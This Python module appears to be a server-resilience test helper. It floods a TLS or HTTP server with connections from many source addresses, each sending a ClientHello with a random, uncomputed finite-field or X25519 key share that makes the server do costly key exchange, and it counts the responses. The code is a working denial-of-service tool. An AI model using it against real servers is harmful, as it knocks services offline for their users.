# SPDX-License-Identifier: GPL-2.0-or-later
"""Hostile clients, many at once: what they send costs them nothing. One process for all, which never computes."""

import multiprocessing
import os
import selectors
import socket
import struct
import time
from collections import Counter
from contextlib import contextmanager, suppress

X25519, FFDHE2048, FFDHE8192 = 0x1D, 0x100, 0x104
SHARE_BYTES = {X25519: 32, FFDHE2048: 256, FFDHE8192: 1024}
TLS_1_3_SUITES = (0x1301, 0x1302, 0x1303)
TLS_1_2_SUITES = (0x9E, 0x9F, 0x33, 0x39, 0xC02B, 0xC02F, 0xC030)
SIGNATURES = (0x0403, 0x0503, 0x0603, 0x0804, 0x0805, 0x0806, 0x0807, 0x0401, 0x0501, 0x0601)


def _vector(size, data):
    return len(data).to_bytes(size, "big") + data


def _words(numbers):
    return b"".join(struct.pack("!H", number) for number in numbers)


def _extension(number, data):
    return struct.pack("!H", number) + _vector(2, data)


def client_hello(group, tls_1_3=True):
    """A ClientHello whose share of a key in the group is made up, without any computing."""
    extensions = _extension(10, _vector(2, _words([group]))) + _extension(13, _vector(2, _words(SIGNATURES)))
    if tls_1_3:
        share = b"\2" + os.urandom(SHARE_BYTES[group] - 1)
        extensions += _extension(43, _vector(1, _words([0x304])))
        extensions += _extension(51, _vector(2, _words([group]) + _vector(2, share)))
    else:
        extensions += _extension(11, b"\1\0")
    suites = _vector(2, _words(TLS_1_3_SUITES if tls_1_3 else TLS_1_2_SUITES))
    body = b"\3\3" + os.urandom(32) + _vector(1, os.urandom(32)) + suites + b"\1\0" + _vector(2, extensions)
    return b"\x16\3\1" + _vector(2, b"\1" + _vector(3, body))


def kind_of(answer):
    """A status of HTTP; "TLS"; "end", or "reset", without an answer."""
    if not answer:
        return "reset" if answer is None else "end"
    return int(answer.split()[1]) if answer.startswith(b"HTTP") else "TLS"


class Client:
    """One connection after another from one address: sends, waits for the first bytes of an answer, begins again."""

    def __init__(self, selector, target, source, message, answers):
        self.selector, self.target, self.source, self.message, self.answers = selector, target, source, message, answers
        self.begin()

    def begin(self):
        self.socket = socket.socket(self.target[0])
        self.socket.setblocking(False)
        if self.target[0] == socket.AF_INET6:
            self.socket.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND
        self.socket.bind((self.source(), 0))
        self.socket.connect_ex(self.target[1])
        self.selector.register(self.socket, selectors.EVENT_WRITE, self)

    def step(self, events):
        answer = None
        try:
            if events & selectors.EVENT_WRITE:
                self.socket.send(self.message())
                self.selector.modify(self.socket, selectors.EVENT_READ, self)
                return
            answer = self.socket.recv(4096)
        except BlockingIOError:
            return
        except OSError:
            pass
        self.answers[kind_of(answer)] += 1
        self.selector.unregister(self.socket)
        self.socket.close()
        self.begin()


def _attack(pipe, enter, target, sources, message, count, seconds):
    answers, end = Counter(), time.monotonic() + seconds
    with enter(), selectors.DefaultSelector() as selector:
        for source in sources:
            Client(selector, target, source, message, answers)
        pipe.send(None)
        while sum(answers.values()) < count and time.monotonic() < end and not pipe.poll():
            for key, events in selector.select(0.1):
                key.data.step(events)
    pipe.send(answers)


@contextmanager
def attack(enter, target, sources, message, count=1 << 62, seconds=1 << 30):
    """A connection from each of `sources` (functions), again and again, each with another message(), until there were
    so many answers or it took so long. Yields a function that waits for the end of that, or with stop=True makes it:
    Counter({kind_of(answer): how many})."""
    ours, theirs = multiprocessing.Pipe()
    arguments = (theirs, enter, target, sources, message, count, seconds)
    process = multiprocessing.get_context("fork").Process(target=_attack, args=arguments)
    process.start()
    ours.recv()

    def answers(stop=False):
        if stop:
            ours.send(None)
        return ours.recv()

    try:
        yield answers
    finally:
        with suppress(OSError):
            ours.send(None)
        process.join()
